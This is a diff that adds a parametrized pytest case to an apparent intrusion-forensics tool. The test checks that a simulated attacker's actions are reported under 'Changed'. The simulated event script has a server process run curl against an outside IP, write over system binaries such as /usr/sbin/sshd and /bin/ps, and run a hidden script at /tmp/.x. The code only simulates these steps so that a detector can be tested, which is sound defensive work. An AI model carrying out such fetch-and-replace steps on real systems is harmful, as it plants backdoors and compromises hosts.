@@ -132,6 +132,19 @@ def test_a_library_that_a_program_of_the_story_wrote_is_told_where_it_is_loaded(
     assert "libc.so.6" not in story
 
 
+@pytest.mark.parametrize("path", ["/usr/local/bin/netd", "/usr/sbin/sshd", "/bin/ps"])
+def test_a_program_that_a_program_of_the_story_put_in_place_is_told(tmp_path: Path, path: str) -> None:
+    """What is installed is read by everybody and written by few: a daemon of the intruder's, a replaced one."""
+    script = Script()
+    shop = server(script, 8080)
+    shop.accepts(3, 9, PEER, 40_000)
+    fetch = harm(shop).forks(201)
+    fetch.execs("/usr/bin/curl", "curl", "http://203.0.113.9/l")
+    fetch.opens(path, NEW, fd=6, created=True)
+    story = story_of(tmp_path, script, "^bash /tmp/.x$", "--steps", "all")
+    assert path in story.split("Changed", 1)[-1].split("Contacted", 1)[0], story
+
+
 def test_the_ssh_of_an_scp_is_told_as_scp_and_settings_are_shown_short(tmp_path: Path) -> None:
     script = Script()
     shop = server(script, 8080)
